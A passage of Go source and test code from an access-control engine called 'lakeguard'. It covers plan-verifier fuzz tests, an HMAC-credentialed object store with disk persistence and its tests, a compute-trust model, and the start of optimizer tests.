				t.Errorf("seed %d (%s): mutation %s ACCEPTED — verifier soundness hole",
					seed, s.Query, m.Name)
			}
		}
	}
	// Every mutation in the menu must have actually been exercised.
	for _, m := range Mutations {
		if applied[m.Name] == 0 {
			t.Errorf("mutation %s never applied across %d seeds", m.Name, fuzzSeeds)
		}
	}
	t.Logf("mutants rejected per mutation: %v", applied)
}

// TestMutationsAreCopyOnWrite proves Apply never edits the input tree: the
// unmutated plan must still verify after every mutation ran against it.
func TestMutationsAreCopyOnWrite(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	s := GenerateScenario(rng)
	f := NewFixture(catalog.ComputeStandard)
	if err := s.Seed(f); err != nil {
		t.Fatal(err)
	}
	analyzed, optimized, err := s.Plans(f)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range Mutations {
		m.Apply(s, optimized)
	}
	if err := sentinel.Verify(analyzed, optimized).Err(); err != nil {
		t.Fatalf("a mutation edited the shared tree in place: %v", err)
	}
}

// TestFuzzParallelEquivalence runs each generated victim query end-to-end at
// engine parallelism 1, 2, and 8: every level must accept the plan (no
// sentinel denial) and return the same rows.
func TestFuzzParallelEquivalence(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		rng := rand.New(rand.NewSource(seed))
		s := GenerateScenario(rng)
		var want []string
		for _, workers := range []int{1, 2, 8} {
			f := NewFixtureP(catalog.ComputeStandard, workers)
			if err := s.Seed(f); err != nil {
				t.Fatalf("seed %d workers %d: %v", seed, workers, err)
			}
			rows, err := f.QueryRows(Victim, s.Query)
			if err != nil {
				t.Fatalf("seed %d workers %d (%s): %v", seed, workers, s.Query, err)
			}
			if n := len(f.SentinelDenials()); n != 0 {
				t.Fatalf("seed %d workers %d: %d sentinel denials on a clean plan", seed, workers, n)
			}
			if workers == 1 {
				want = rows
				continue
			}
			if !reflect.DeepEqual(rows, want) {
				t.Errorf("seed %d (%s): workers %d returned %v, workers 1 returned %v",
					seed, s.Query, workers, rows, want)
			}
		}
	}
}
