package storage

import (
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
)

// NewPersistentStore creates a store that mirrors every object to files
// under dir and reloads them on construction, so delta logs and data files
// survive a process restart. The layout is deliberately flat: each object
// path is stored as one file whose name is the URL-path-escaped object path
// ('/' becomes %2F), which makes the mapping bijective, keeps arbitrary
// object paths from escaping dir, and lets reload be a single ReadDir.
// Access control is unchanged — the HMAC secret is fresh per process, so
// credentials never outlive the server that vended them even though the
// bytes they guarded do.
func NewPersistentStore(dir string) (*Store, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("storage: create data dir: %w", err)
	}
	s := NewStore()
	s.dir = dir
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("storage: read data dir: %w", err)
	}
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		if strings.HasSuffix(e.Name(), ".tmp") {
			// A crash between WriteFile and Rename left a partial write;
			// the object was never acknowledged, so discard it.
			_ = os.Remove(filepath.Join(dir, e.Name()))
			continue
		}
		objPath, err := url.PathUnescape(e.Name())
		if err != nil {
			continue // not one of ours
		}
		data, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			return nil, fmt.Errorf("storage: reload %s: %w", e.Name(), err)
		}
		s.objects[objPath] = data
	}
	return s, nil
}

// diskPath maps an object path to its backing file (empty dir = in-memory
// only).
func (s *Store) diskPath(objPath string) string {
	return filepath.Join(s.dir, url.PathEscape(objPath))
}

// persistPut mirrors one object to disk via a temp-file rename so a crash
// mid-write never leaves a truncated object to reload. Called with s.mu
// held, before the in-memory map is updated: if the disk write fails the
// Put fails and memory stays consistent with disk.
func (s *Store) persistPut(objPath string, data []byte) error {
	if s.dir == "" {
		return nil
	}
	dst := s.diskPath(objPath)
	tmp := dst + ".tmp"
	if err := os.WriteFile(tmp, data, 0o644); err != nil {
		return fmt.Errorf("storage: persist %s: %w", objPath, err)
	}
	if err := os.Rename(tmp, dst); err != nil {
		return fmt.Errorf("storage: persist %s: %w", objPath, err)
	}
	return nil
}

// persistDelete removes the backing file. Called with s.mu held.
func (s *Store) persistDelete(objPath string) {
	if s.dir == "" {
		return
	}
	_ = os.Remove(s.diskPath(objPath))
}
