package storage

import (
	"errors"
	"testing"
	"time"

	"lakeguard/internal/telemetry"
)

func TestPutGetRoundTrip(t *testing.T) {
	s := NewStore()
	cred := s.Signer().Issue("tables/t1/", ModeReadWrite, time.Minute)
	if err := s.Put(&cred, "tables/t1/data/0.bin", []byte("hello")); err != nil {
		t.Fatal(err)
	}
	got, err := s.Get(&cred, "tables/t1/data/0.bin")
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "hello" {
		t.Fatalf("got %q", got)
	}
	sz, err := s.Size(&cred, "tables/t1/data/0.bin")
	if err != nil || sz != 5 {
		t.Fatalf("size = %d, %v", sz, err)
	}
}

func TestNoCredentialRejected(t *testing.T) {
	s := NewStore()
	if _, err := s.Get(nil, "x"); !errors.Is(err, ErrNoCredential) {
		t.Errorf("err = %v", err)
	}
	if err := s.Put(nil, "x", nil); !errors.Is(err, ErrNoCredential) {
		t.Errorf("err = %v", err)
	}
}

func TestForgedCredentialRejected(t *testing.T) {
	s := NewStore()
	forged := Credential{Prefix: "tables/", Mode: ModeReadWrite, Expiry: time.Now().Add(time.Hour), Signature: "deadbeef"}
	if _, err := s.Get(&forged, "tables/x"); !errors.Is(err, ErrBadSignature) {
		t.Errorf("err = %v", err)
	}
	// A credential from a different store's signer is also forged here.
	other := NewStore().Signer().Issue("tables/", ModeRead, time.Hour)
	if _, err := s.Get(&other, "tables/x"); !errors.Is(err, ErrBadSignature) {
		t.Errorf("cross-store err = %v", err)
	}
}

func TestTamperedCredentialRejected(t *testing.T) {
	s := NewStore()
	cred := s.Signer().Issue("tables/t1/", ModeRead, time.Hour)
	// Widening the prefix invalidates the signature.
	cred.Prefix = "tables/"
	if _, err := s.Get(&cred, "tables/t2/secret"); !errors.Is(err, ErrBadSignature) {
		t.Errorf("err = %v", err)
	}
	// Upgrading the mode invalidates the signature.
	cred2 := s.Signer().Issue("tables/t1/", ModeRead, time.Hour)
	cred2.Mode = ModeReadWrite
	if err := s.Put(&cred2, "tables/t1/x", nil); !errors.Is(err, ErrBadSignature) {
		t.Errorf("err = %v", err)
	}
}

func TestExpiredCredential(t *testing.T) {
	s := NewStore()
	now := time.Unix(1000, 0)
	s.SetClock(func() time.Time { return now })
	cred := s.Signer().Issue("p/", ModeReadWrite, time.Minute)
	if err := s.Put(&cred, "p/x", []byte("v")); err != nil {
		t.Fatal(err)
	}
	now = now.Add(2 * time.Minute)
	if _, err := s.Get(&cred, "p/x"); !errors.Is(err, ErrExpiredCredential) {
		t.Errorf("err = %v", err)
	}
}

func TestPrefixEnforced(t *testing.T) {
	s := NewStore()
	rw := s.Signer().Issue("tables/", ModeReadWrite, time.Hour)
	if err := s.Put(&rw, "tables/t2/secret", []byte("pii")); err != nil {
		t.Fatal(err)
	}
	narrow := s.Signer().Issue("tables/t1/", ModeRead, time.Hour)
	if _, err := s.Get(&narrow, "tables/t2/secret"); !errors.Is(err, ErrPrefixMismatch) {
		t.Errorf("err = %v", err)
	}
	if _, err := s.List(&narrow, "tables/"); !errors.Is(err, ErrPrefixMismatch) {
		t.Errorf("list err = %v", err)
	}
}

func TestReadOnlyEnforced(t *testing.T) {
	s := NewStore()
	ro := s.Signer().Issue("p/", ModeRead, time.Hour)
	if err := s.Put(&ro, "p/x", nil); !errors.Is(err, ErrReadOnly) {
		t.Errorf("err = %v", err)
	}
	if err := s.Delete(&ro, "p/x"); !errors.Is(err, ErrReadOnly) {
		t.Errorf("delete err = %v", err)
	}
}

func TestListAndDelete(t *testing.T) {
	s := NewStore()
	cred := s.Signer().Issue("d/", ModeReadWrite, time.Hour)
	for _, p := range []string{"d/b", "d/a", "d/c/x"} {
		if err := s.Put(&cred, p, []byte("1")); err != nil {
			t.Fatal(err)
		}
	}
	got, err := s.List(&cred, "d/")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 || got[0] != "d/a" || got[2] != "d/c/x" {
		t.Fatalf("list = %v", got)
	}
	if err := s.Delete(&cred, "d/b"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Get(&cred, "d/b"); !errors.Is(err, ErrNotFound) {
		t.Errorf("get deleted err = %v", err)
	}
	// Idempotent delete.
	if err := s.Delete(&cred, "d/b"); err != nil {
		t.Errorf("re-delete err = %v", err)
	}
}

func TestDataIsolatedFromCallerMutation(t *testing.T) {
	s := NewStore()
	cred := s.Signer().Issue("p/", ModeReadWrite, time.Hour)
	data := []byte("abc")
	if err := s.Put(&cred, "p/x", data); err != nil {
		t.Fatal(err)
	}
	data[0] = 'Z'
	got, _ := s.Get(&cred, "p/x")
	if string(got) != "abc" {
		t.Error("store aliased caller buffer on Put")
	}
	got[0] = 'Q'
	got2, _ := s.Get(&cred, "p/x")
	if string(got2) != "abc" {
		t.Error("store aliased caller buffer on Get")
	}
}

func TestListAfterSeededListing(t *testing.T) {
	s := NewStore()
	m := telemetry.NewRegistry()
	s.SetMetrics(m)
	cred := s.Signer().Issue("tables/t/", ModeReadWrite, time.Minute)
	paths := []string{
		"tables/t/log/00001.json",
		"tables/t/log/00002.json",
		"tables/t/log/00003.json",
		"tables/t/log/00004.json",
	}
	for _, p := range paths {
		if err := s.Put(&cred, p, []byte("x")); err != nil {
			t.Fatal(err)
		}
	}
	out, err := s.ListAfter(&cred, "tables/t/log/", "tables/t/log/00002.json")
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 2 || out[0] != paths[2] || out[1] != paths[3] {
		t.Fatalf("ListAfter = %v, want the two entries after the marker", out)
	}
	// The two keys at or before the marker were skipped, and the skip is
	// accounted on storage.list_saved.
	if got := m.Counter("storage.list_saved").Value(); got != 2 {
		t.Errorf("storage.list_saved = %d, want 2", got)
	}
	// A marker past the tail returns nothing and credits everything.
	out, err = s.ListAfter(&cred, "tables/t/log/", "tables/t/log/99999.json")
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 0 {
		t.Fatalf("ListAfter past tail = %v, want empty", out)
	}
	if got := m.Counter("storage.list_saved").Value(); got != 6 {
		t.Errorf("storage.list_saved = %d, want 6 after full skip", got)
	}
	// Same credential checks as List: out-of-prefix listing is refused.
	if _, err := s.ListAfter(&cred, "tables/other/", ""); !errors.Is(err, ErrPrefixMismatch) {
		t.Errorf("out-of-prefix ListAfter err = %v, want ErrPrefixMismatch", err)
	}
}
