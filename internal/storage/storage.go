// Package storage simulates cloud object storage with credential-gated
// access. It reproduces the access-control shape the paper relies on:
// storage itself only understands object-level permissions (a credential is
// valid for a path prefix, a mode, and a time window), so any finer-grained
// policy must be enforced above storage by the engine — which is exactly the
// problem Lakeguard solves.
//
// Credentials are vended by the catalog (which shares the signing secret with
// the store) and verified here with HMAC-SHA256. Sandboxed user code never
// receives credentials, so it cannot reach storage at all.
package storage

import (
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"lakeguard/internal/telemetry"
)

// AccessMode is the operation class a credential permits.
type AccessMode uint8

// Access modes.
const (
	ModeRead AccessMode = iota
	ModeReadWrite
)

// String returns "READ" or "READ_WRITE".
func (m AccessMode) String() string {
	if m == ModeRead {
		return "READ"
	}
	return "READ_WRITE"
}

// Credential is a temporary, prefix-scoped storage credential.
type Credential struct {
	// Prefix is the path prefix the credential grants access under.
	Prefix string
	// Mode is the permitted operation class.
	Mode AccessMode
	// Expiry is the instant the credential stops working.
	Expiry time.Time
	// Signature is the HMAC tag binding prefix, mode, and expiry.
	Signature string
}

// Errors returned by credential checks.
var (
	ErrNoCredential      = errors.New("storage: operation requires a credential")
	ErrBadSignature      = errors.New("storage: credential signature invalid")
	ErrExpiredCredential = errors.New("storage: credential expired")
	ErrPrefixMismatch    = errors.New("storage: path outside credential prefix")
	ErrReadOnly          = errors.New("storage: write with read-only credential")
	ErrNotFound          = errors.New("storage: object not found")
)

// Store is an in-memory object store, optionally mirrored to a directory on
// disk (NewPersistentStore) so objects survive restarts.
type Store struct {
	mu      sync.RWMutex
	objects map[string][]byte
	secret  []byte
	dir     string // non-empty: write-through persistence root
	clock   func() time.Time
	fault   func(op, path string) error
	// stats: atomic because Get takes only a read lock and parallel scan
	// workers read concurrently.
	getCount atomic.Int64
	putCount atomic.Int64
	// registry counters (nil until SetMetrics; nil-safe no-ops).
	mGetOps   *telemetry.Counter
	mGetBytes *telemetry.Counter
	mPutOps   *telemetry.Counter
	mPutBytes *telemetry.Counter
	mHeadOps   *telemetry.Counter
	mListOps   *telemetry.Counter
	mGetSaved  *telemetry.Counter
	mListSaved *telemetry.Counter
}

// NewStore creates a store with a fresh random signing secret.
func NewStore() *Store {
	secret := make([]byte, 32)
	if _, err := rand.Read(secret); err != nil {
		panic("storage: cannot read entropy: " + err.Error())
	}
	return &Store{objects: make(map[string][]byte), secret: secret, clock: time.Now}
}

// SetClock overrides the time source (tests).
func (s *Store) SetClock(clock func() time.Time) { s.clock = clock }

// SetMetrics publishes storage data-plane counters (storage.get_ops,
// storage.get_bytes, storage.put_ops, storage.put_bytes, storage.head_ops,
// storage.list_ops, storage.get_saved) on a registry.
func (s *Store) SetMetrics(m *telemetry.Registry) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.mGetOps = m.Counter("storage.get_ops")
	s.mGetBytes = m.Counter("storage.get_bytes")
	s.mPutOps = m.Counter("storage.put_ops")
	s.mPutBytes = m.Counter("storage.put_bytes")
	s.mHeadOps = m.Counter("storage.head_ops")
	s.mListOps = m.Counter("storage.list_ops")
	s.mGetSaved = m.Counter("storage.get_saved")
	s.mListSaved = m.Counter("storage.list_saved")
}

// SetFault installs a failure-injection hook consulted on every data-plane
// operation ("get", "put", "delete", "list"); a non-nil return fails the
// operation after access checks pass. Pass nil to clear. Tests use this to
// model transient cloud-storage failures.
func (s *Store) SetFault(fault func(op, path string) error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.fault = fault
}

// injectFault runs the fault hook, if any.
func (s *Store) injectFault(op, path string) error {
	s.mu.RLock()
	f := s.fault
	s.mu.RUnlock()
	if f == nil {
		return nil
	}
	return f(op, path)
}

// Signer returns a credential-issuing function bound to this store's secret.
// Only the catalog should hold the signer.
func (s *Store) Signer() *Signer {
	return &Signer{secret: s.secret, clock: func() time.Time { return s.clock() }}
}

// Signer issues credentials the paired Store will accept.
type Signer struct {
	secret []byte
	clock  func() time.Time
}

// Issue vends a credential for prefix with the given mode and time to live.
func (sg *Signer) Issue(prefix string, mode AccessMode, ttl time.Duration) Credential {
	expiry := sg.clock().Add(ttl)
	return Credential{
		Prefix:    prefix,
		Mode:      mode,
		Expiry:    expiry,
		Signature: sign(sg.secret, prefix, mode, expiry),
	}
}

func sign(secret []byte, prefix string, mode AccessMode, expiry time.Time) string {
	mac := hmac.New(sha256.New, secret)
	fmt.Fprintf(mac, "%s|%d|%d", prefix, mode, expiry.UnixNano())
	return hex.EncodeToString(mac.Sum(nil))
}

// check validates a credential for a path and operation.
func (s *Store) check(cred *Credential, path string, write bool) error {
	if cred == nil {
		return ErrNoCredential
	}
	want := sign(s.secret, cred.Prefix, cred.Mode, cred.Expiry)
	if !hmac.Equal([]byte(want), []byte(cred.Signature)) {
		return ErrBadSignature
	}
	if s.clock().After(cred.Expiry) {
		return ErrExpiredCredential
	}
	if !strings.HasPrefix(path, cred.Prefix) {
		return fmt.Errorf("%w: %q not under %q", ErrPrefixMismatch, path, cred.Prefix)
	}
	if write && cred.Mode != ModeReadWrite {
		return ErrReadOnly
	}
	return nil
}

// Put writes an object.
func (s *Store) Put(cred *Credential, path string, data []byte) error {
	if err := s.check(cred, path, true); err != nil {
		return err
	}
	if err := s.injectFault("put", path); err != nil {
		return err
	}
	cp := make([]byte, len(data))
	copy(cp, data)
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.persistPut(path, cp); err != nil {
		return err
	}
	s.objects[path] = cp
	s.putCount.Add(1)
	s.mPutOps.Inc()
	s.mPutBytes.Add(int64(len(cp)))
	return nil
}

// ErrAlreadyExists is returned by PutIfAbsent on conflict.
var ErrAlreadyExists = errors.New("storage: object already exists")

// PutIfAbsent writes an object only if the path is empty. It is the
// primitive transactional commit protocols (the Delta log) build on.
func (s *Store) PutIfAbsent(cred *Credential, path string, data []byte) error {
	if err := s.check(cred, path, true); err != nil {
		return err
	}
	if err := s.injectFault("put", path); err != nil {
		return err
	}
	cp := make([]byte, len(data))
	copy(cp, data)
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.objects[path]; ok {
		return fmt.Errorf("%w: %s", ErrAlreadyExists, path)
	}
	if err := s.persistPut(path, cp); err != nil {
		return err
	}
	s.objects[path] = cp
	s.putCount.Add(1)
	s.mPutOps.Inc()
	s.mPutBytes.Add(int64(len(cp)))
	return nil
}

// Get reads an object.
func (s *Store) Get(cred *Credential, path string) ([]byte, error) {
	if err := s.check(cred, path, false); err != nil {
		return nil, err
	}
	if err := s.injectFault("get", path); err != nil {
		return nil, err
	}
	s.mu.RLock()
	defer s.mu.RUnlock()
	data, ok := s.objects[path]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNotFound, path)
	}
	s.getCount.Add(1)
	s.mGetOps.Inc()
	s.mGetBytes.Add(int64(len(data)))
	out := make([]byte, len(data))
	copy(out, data)
	return out, nil
}

// Exists reports whether an object is present — the HEAD-request analog: the
// credential check is identical to Get's, no bytes are copied, and the
// operation counts as storage.head_ops rather than a GET. Cache layers use it
// to revalidate a credential on every cache hit, and delta.Open uses it to
// probe for a table without downloading commit 0.
func (s *Store) Exists(cred *Credential, path string) (bool, error) {
	if err := s.check(cred, path, false); err != nil {
		return false, err
	}
	if err := s.injectFault("head", path); err != nil {
		return false, err
	}
	s.mu.RLock()
	defer s.mu.RUnlock()
	_, ok := s.objects[path]
	s.mHeadOps.Inc()
	return ok, nil
}

// CreditSavedGets records GET round-trips a caller avoided through snapshot
// caching or log-tail listing (storage.get_saved). The saving is attributed
// here so one /metrics page shows ops paid next to ops avoided.
func (s *Store) CreditSavedGets(n int64) {
	if n <= 0 {
		return
	}
	s.mu.RLock()
	defer s.mu.RUnlock()
	s.mGetSaved.Add(n)
}

// Delete removes an object. Deleting a missing object is not an error
// (object stores are idempotent here).
func (s *Store) Delete(cred *Credential, path string) error {
	if err := s.check(cred, path, true); err != nil {
		return err
	}
	if err := s.injectFault("delete", path); err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	delete(s.objects, path)
	s.persistDelete(path)
	return nil
}

// List returns the paths under prefix, sorted. The credential must cover the
// listed prefix.
func (s *Store) List(cred *Credential, prefix string) ([]string, error) {
	if err := s.check(cred, prefix, false); err != nil {
		return nil, err
	}
	if err := s.injectFault("list", prefix); err != nil {
		return nil, err
	}
	s.mu.RLock()
	defer s.mu.RUnlock()
	var out []string
	for p := range s.objects {
		if strings.HasPrefix(p, prefix) {
			out = append(out, p)
		}
	}
	sort.Strings(out)
	s.mListOps.Inc()
	return out, nil
}

// ListAfter returns the paths under prefix that sort strictly after marker,
// sorted — the seeded listing a warm Delta log uses to discover only entries
// newer than its cached replay state. Keys at or before the marker are never
// materialized into the response; their count is credited to
// storage.list_saved so one /metrics page shows listing work paid next to
// listing work avoided.
func (s *Store) ListAfter(cred *Credential, prefix, marker string) ([]string, error) {
	if err := s.check(cred, prefix, false); err != nil {
		return nil, err
	}
	if err := s.injectFault("list", prefix); err != nil {
		return nil, err
	}
	s.mu.RLock()
	defer s.mu.RUnlock()
	var out []string
	var skipped int64
	for p := range s.objects {
		if !strings.HasPrefix(p, prefix) {
			continue
		}
		if p <= marker {
			skipped++
			continue
		}
		out = append(out, p)
	}
	sort.Strings(out)
	s.mListOps.Inc()
	s.mListSaved.Add(skipped)
	return out, nil
}

// IsAccessDenied reports whether err is a credential failure (missing,
// forged, expired, out-of-prefix, or read-only) as opposed to a data error
// like ErrNotFound. Cache layers use it to decide when a failed lookup must
// be audited as a denial.
func IsAccessDenied(err error) bool {
	for _, target := range []error{ErrNoCredential, ErrBadSignature, ErrExpiredCredential, ErrPrefixMismatch, ErrReadOnly} {
		if errors.Is(err, target) {
			return true
		}
	}
	return false
}

// Size returns an object's byte length without reading it.
func (s *Store) Size(cred *Credential, path string) (int, error) {
	if err := s.check(cred, path, false); err != nil {
		return 0, err
	}
	s.mu.RLock()
	defer s.mu.RUnlock()
	data, ok := s.objects[path]
	if !ok {
		return 0, fmt.Errorf("%w: %s", ErrNotFound, path)
	}
	return len(data), nil
}

// Stats reports operation counters (bench instrumentation).
func (s *Store) Stats() (gets, puts int64) {
	return s.getCount.Load(), s.putCount.Load()
}
