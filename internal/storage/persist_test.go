package storage

import (
	"net/url"
	"os"
	"path/filepath"
	"testing"
	"time"
)

func TestPersistentStoreSurvivesRestart(t *testing.T) {
	dir := t.TempDir()
	s1, err := NewPersistentStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	cred := s1.Signer().Issue("tables/", ModeReadWrite, time.Minute)
	if err := s1.Put(&cred, "tables/t/_delta_log/00000000000000000000.json", []byte(`{"v":0}`)); err != nil {
		t.Fatal(err)
	}
	if err := s1.PutIfAbsent(&cred, "tables/t/data/file1.arrow", []byte("rows")); err != nil {
		t.Fatal(err)
	}

	// "Restart": a brand-new store over the same directory (fresh HMAC
	// secret — old credentials must not work, old bytes must).
	s2, err := NewPersistentStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s2.Get(&cred, "tables/t/data/file1.arrow"); !IsAccessDenied(err) {
		t.Fatalf("stale credential after restart: err = %v, want access denied", err)
	}
	cred2 := s2.Signer().Issue("tables/", ModeRead, time.Minute)
	got, err := s2.Get(&cred2, "tables/t/data/file1.arrow")
	if err != nil || string(got) != "rows" {
		t.Fatalf("reload data = %q, %v", got, err)
	}
	log, err := s2.Get(&cred2, "tables/t/_delta_log/00000000000000000000.json")
	if err != nil || string(log) != `{"v":0}` {
		t.Fatalf("reload log = %q, %v", log, err)
	}
}

func TestPersistentStoreDeleteRemovesBackingFile(t *testing.T) {
	dir := t.TempDir()
	s, err := NewPersistentStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	cred := s.Signer().Issue("", ModeReadWrite, time.Minute)
	if err := s.Put(&cred, "a/b/obj", []byte("x")); err != nil {
		t.Fatal(err)
	}
	onDisk := filepath.Join(dir, url.PathEscape("a/b/obj"))
	if _, err := os.Stat(onDisk); err != nil {
		t.Fatalf("backing file missing after put: %v", err)
	}
	if err := s.Delete(&cred, "a/b/obj"); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(onDisk); !os.IsNotExist(err) {
		t.Fatalf("backing file survives delete: %v", err)
	}
	s2, err := NewPersistentStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	cred2 := s2.Signer().Issue("", ModeRead, time.Minute)
	if _, err := s2.Get(&cred2, "a/b/obj"); err == nil {
		t.Fatal("deleted object reappeared after restart")
	}
}

func TestPersistentStoreIgnoresForeignFiles(t *testing.T) {
	dir := t.TempDir()
	// A leftover temp file (crash mid-persist) and an unescapable name must
	// not break reload.
	if err := os.WriteFile(filepath.Join(dir, "obj.tmp"), []byte("partial"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "bad%zz"), []byte("junk"), 0o644); err != nil {
		t.Fatal(err)
	}
	s, err := NewPersistentStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	cred := s.Signer().Issue("", ModeReadWrite, time.Minute)
	if _, err := s.Get(&cred, "obj.tmp"); err == nil {
		t.Fatal("partial .tmp write reloaded as an object")
	}
	if _, err := os.Stat(filepath.Join(dir, "obj.tmp")); !os.IsNotExist(err) {
		t.Fatal("stale .tmp file not cleaned up on reload")
	}
	if err := s.Put(&cred, "ok", []byte("fine")); err != nil {
		t.Fatal(err)
	}
}
