// Package security defines the identity and compute-trust model every layer
// of Lakeguard shares: who is asking (RequestContext) and how much the
// requesting compute may be trusted with (ComputeType). It sits below the
// catalog so that enforcement-adjacent packages (exec, sentinel) can reason
// about identity without importing the catalog itself — an import boundary
// lakeguard-lint verifies.
package security

// ComputeType classifies the requesting compute's isolation capabilities.
type ComputeType string

// Compute types (paper §4).
const (
	// ComputeStandard is the multi-user cluster type with full user-code
	// isolation; the engine is trusted to enforce FGAC locally.
	ComputeStandard ComputeType = "STANDARD"
	// ComputeDedicated gives users privileged machine access; FGAC cannot be
	// enforced locally and must be offloaded (eFGAC).
	ComputeDedicated ComputeType = "DEDICATED"
	// ComputeServerless is the Databricks-managed standard-architecture
	// fleet that serves eFGAC subqueries.
	ComputeServerless ComputeType = "SERVERLESS"
	// ComputeExternal is a non-Databricks engine (Presto/Trino); like
	// Dedicated, it can only use eFGAC for governed relations.
	ComputeExternal ComputeType = "EXTERNAL"
)

// TrustedForFGAC reports whether the compute type may receive policy
// internals and raw-table credentials for FGAC-protected relations.
func (c ComputeType) TrustedForFGAC() bool {
	return c == ComputeStandard || c == ComputeServerless
}

// RequestContext identifies a caller: the user identity plus the credential
// scope of the compute the request originates from.
type RequestContext struct {
	User      string
	Compute   ComputeType
	ClusterID string
	SessionID string
	// GroupScope, when non-empty, down-scopes the caller's effective
	// permissions to exactly the named group's grants while retaining the
	// user identity for auditing and CURRENT_USER (dedicated group
	// clusters, paper §4.2).
	GroupScope string
	// TraceID correlates every governance decision made on behalf of this
	// request with the query's telemetry trace: audit events carry it so a
	// DENY or SENTINEL_VERIFY joins to its span tree.
	TraceID string
}
