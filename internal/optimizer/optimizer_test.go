package optimizer

import (
	"strings"
	"testing"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

func ref(i int, name string, k types.Kind) *plan.BoundRef {
	return &plan.BoundRef{Index: i, Name: name, Kind: k}
}

func salesScan() *plan.Scan {
	return &plan.Scan{
		Table: "main.default.sales",
		TableSchema: types.NewSchema(
			types.Field{Name: "amount", Kind: types.KindFloat64},
			types.Field{Name: "date", Kind: types.KindString},
			types.Field{Name: "seller", Kind: types.KindString},
			types.Field{Name: "region", Kind: types.KindString},
		),
		Version: -1,
	}
}

func eqStr(e plan.Expr, val string) *plan.Binary {
	return &plan.Binary{Op: plan.OpEq, L: e, R: plan.Lit(types.String(val)), ResultKind: types.KindBool}
}

func TestConstantFolding(t *testing.T) {
	// 1 + 2 * 3 folds to 7.
	e := &plan.Binary{Op: plan.OpAdd,
		L:          plan.Lit(types.Int64(1)),
		R:          &plan.Binary{Op: plan.OpMul, L: plan.Lit(types.Int64(2)), R: plan.Lit(types.Int64(3)), ResultKind: types.KindInt64},
		ResultKind: types.KindInt64,
	}
	p := &plan.Project{Exprs: []plan.Expr{e}, Child: salesScan(), OutSchema: types.NewSchema(types.Field{Name: "x", Kind: types.KindInt64})}
	out := Optimize(p, Options{FoldConstants: true})
	folded := out.(*plan.Project).Exprs[0]
	lit, ok := folded.(*plan.Literal)
	if !ok || lit.Value.I != 7 {
		t.Fatalf("folded = %s", folded.String())
	}
	// CURRENT_USER() must NOT fold.
	p2 := &plan.Project{Exprs: []plan.Expr{&plan.CurrentUser{}}, Child: salesScan(), OutSchema: types.NewSchema(types.Field{Name: "u", Kind: types.KindString})}
	out2 := Optimize(p2, Options{FoldConstants: true})
	if _, ok := out2.(*plan.Project).Exprs[0].(*plan.CurrentUser); !ok {
		t.Error("CURRENT_USER was folded")
	}
}

func TestFilterPushdownIntoScan(t *testing.T) {
	f := &plan.Filter{
		Cond:  eqStr(ref(3, "region", types.KindString), "US"),
		Child: salesScan(),
	}
	out := Optimize(f, Options{PushFilters: true})
	sc, ok := out.(*plan.Scan)
	if !ok {
		t.Fatalf("root = %T:\n%s", out, plan.Explain(out))
	}
	if len(sc.PushedFilters) != 1 {
		t.Fatalf("pushed = %v", sc.PushedFilters)
	}
}

func TestFilterPushdownThroughProject(t *testing.T) {
	proj := &plan.Project{
		Exprs: []plan.Expr{
			ref(3, "region", types.KindString),
			&plan.Binary{Op: plan.OpMul, L: ref(0, "amount", types.KindFloat64), R: plan.Lit(types.Float64(2)), ResultKind: types.KindFloat64},
		},
		Child: salesScan(),
		OutSchema: types.NewSchema(
			types.Field{Name: "region", Kind: types.KindString},
			types.Field{Name: "double", Kind: types.KindFloat64},
		),
	}
	// Filter on the pass-through column pushes; filter on the computed one stays.
	f := &plan.Filter{
		Cond: &plan.Binary{Op: plan.OpAnd,
			L:          eqStr(ref(0, "region", types.KindString), "US"),
			R:          &plan.Binary{Op: plan.OpGt, L: ref(1, "double", types.KindFloat64), R: plan.Lit(types.Float64(10)), ResultKind: types.KindBool},
			ResultKind: types.KindBool},
		Child: proj,
	}
	out := Optimize(f, Options{PushFilters: true})
	// region filter should reach the scan.
	pushedToScan := false
	plan.Walk(out, func(n plan.Node) bool {
		if sc, ok := n.(*plan.Scan); ok && len(sc.PushedFilters) == 1 {
			pushedToScan = strings.Contains(sc.PushedFilters[0].String(), "region")
		}
		return true
	})
	if !pushedToScan {
		t.Errorf("region filter not pushed:\n%s", plan.Explain(out))
	}
	// computed filter stays above the project.
	if _, ok := out.(*plan.Filter); !ok {
		t.Errorf("computed filter vanished:\n%s", plan.Explain(out))
	}
}

func TestFilterPushdownThroughJoin(t *testing.T) {
	left, right := salesScan(), salesScan()
	j := &plan.Join{Type: plan.JoinInner,
		Cond: &plan.Binary{Op: plan.OpEq, L: ref(2, "seller", types.KindString), R: ref(6, "seller", types.KindString), ResultKind: types.KindBool},
		L:    left, R: right}
	f := &plan.Filter{
		Cond: &plan.Binary{Op: plan.OpAnd,
			L:          eqStr(ref(3, "region", types.KindString), "US"), // left side
